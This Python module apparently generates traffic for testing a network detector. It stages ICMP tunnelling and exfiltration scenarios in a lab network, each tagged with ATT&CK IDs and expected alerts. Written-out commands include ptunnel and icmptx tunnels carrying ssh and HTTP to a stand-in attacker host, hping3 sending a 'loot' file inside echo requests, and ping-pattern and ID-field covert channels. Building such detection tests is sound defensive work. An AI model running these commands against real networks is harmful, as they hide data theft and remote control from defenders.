"""Tunnels, shells and exfiltration in ICMP."""
from engine import addresses as at
from engine.declaration import malicious
from engine.hosts import TOOLS
from engine.network import Network
from engine.services import CURL, LOOK_AROUND, ssh, sshd, web

TALK = f"c1>{at.BAD}/icmp"
FOUND = ["icmp_tunnel medium T1095"]


def no_echo(net: Network) -> None:
    """The kernel outside stays silent: the tunnel's server answers."""
    net.inet.quietly("sysctl -qw net.ipv4.icmp_echo_ignore_all=1")


@malicious("icmp-ptunnel-ssh", "T1095 T1572", tools="ptunnel openssh-client", talks=TALK, expects=[*FOUND, "T1572"], seconds=40)
def ptunnel(net: Network) -> None:
    """ptunnel: TCP over ICMP echo, interactive ssh inside"""
    no_echo(net)
    sshd(net, net.inet, "0.0.0.0", 22)
    net.inet.start("ptunnel -v 1", settle=0.5)
    net.c1.start(f"ptunnel -p {at.BAD} -lp 8000 -da 127.0.0.1 -dp 22 -v 1", listens="8000/tcp")
    net.c1.type(f"{ssh(net)} -p 8000 root@127.0.0.1", LOOK_AROUND)


def ptunnel_ng(net: Network, port: int, options: str = "") -> None:
    no_echo(net)
    net.inet.start(f"ptunnel-ng -r127.0.0.1 -R{port} {options}", settle=0.5)
    net.c1.start(f"ptunnel-ng -p{at.BAD} -l8000 -r127.0.0.1 -R{port} {options}", listens="8000/tcp")


@malicious("icmp-ptunnelng-ssh", "T1095 T1572", tools="ptunnel-ng openssh-client", talks=TALK, expects=FOUND, seconds=40)
def ng_ssh(net: Network) -> None:
    """ptunnel-ng, interactive ssh inside"""
    sshd(net, net.inet, "0.0.0.0", 22)
    ptunnel_ng(net, 22)
    net.c1.type(f"{ssh(net)} -p 8000 root@127.0.0.1", LOOK_AROUND)


def icmptx(net: Network) -> None:
    no_echo(net)
    for host, mode, address in ((net.inet, "-s", "10.53.0.1"), (net.c1, "-c", "10.53.0.2")):
        host.start(f"icmptx {mode} {at.BAD}")
        host.wait_for_device("tun0")
        host.quietly(f"ip link set tun0 mtu 1400 up; ip addr add {address}/24 dev tun0")


@malicious("icmp-icmptx-http", "T1095 T1572", tools="icmptx curl", talks=TALK, expects=FOUND, seconds=45)
def icmptx_http(net: Network) -> None:
    """icmptx: IP over ICMP, http inside"""
    icmptx(net)
    web(net.inet, "0.0.0.0", 80, options="--least 1500 --most 5000")
    net.c1.every(4, 0.3, 8, lambda n, token: f"{CURL} http://10.53.0.1/{token}")


@malicious("icmp-icmptx-idle", "T1095 T1572", tools="icmptx ncat socat", talks=TALK, expects=["icmp_tunnel T1095"], seconds=75)
def icmptx_idle(net: Network) -> None:
    """icmptx, nearly idle: one small packet every few seconds"""
    icmptx(net)
    net.inet.start("socat UDP-LISTEN:9000,bind=10.53.0.1,fork EXEC:/bin/cat", listens="9000/udp")
    net.c1.every(3, 0.2, 16, lambda n, token: f"echo {token} | ncat -u -w 1 10.53.0.1 9000")


@malicious("icmp-hping-exfil", "T1095 T1048.003", tools="hping3", talks=TALK, expects=FOUND, seconds=30)
def hping(net: Network) -> None:
    """hping3 --icmp --file: a file in echo requests"""
    loot = net.material.blob("loot", 20000)
    net.c1.run(f"hping3 --icmp -d 400 --file {loot} --end -c 50 -i u250000 {at.BAD}")


@malicious("icmp-ping-pattern", "T1095 T1132", tools="iputils-ping", talks=TALK, expects=["icmp_tunnel T1095"], seconds=75)
def ping_pattern(net: Network) -> None:
    """exfiltration with ping -p: sixteen bytes of data as the pattern of each request, sizes vary, every 2.5 s"""
    net.c1.every(2.5, 0.3, 26, lambda n, token: f"ping -c 1 -p {token}{token[::-1]}c0de{token} -s {60 + n * 7 % 90} {at.BAD}")


@malicious("icmp-covert-id", "T1095", tools="python3", talks=TALK, expects=["icmp_tunnel T1095"], seconds=50)
def covert_id(net: Network) -> None:
    """a text two bytes at a time in the identifiers of pings that are ordinary otherwise"""
    net.c1.run(f"python3 {TOOLS}/covert_ping.py {at.BAD} 'the meeting is moved to the old harbour, bring all the keys and tell nobody about it'", seconds=90)


@malicious("icmp-reply-channel", "T1095 T1048.003", tools="hping3", talks=TALK, unanswered=True, expects=["icmp_tunnel T1095"], seconds=50)
def replies(net: Network) -> None:
    """echo replies that nobody asked for, as reverse ICMP shells send them"""
    net.c1.run(f"timeout 40 hping3 --icmp -C 0 -K 0 -e 'out-of-band' -d 96 -c 40 -i u900000 {at.BAD}")
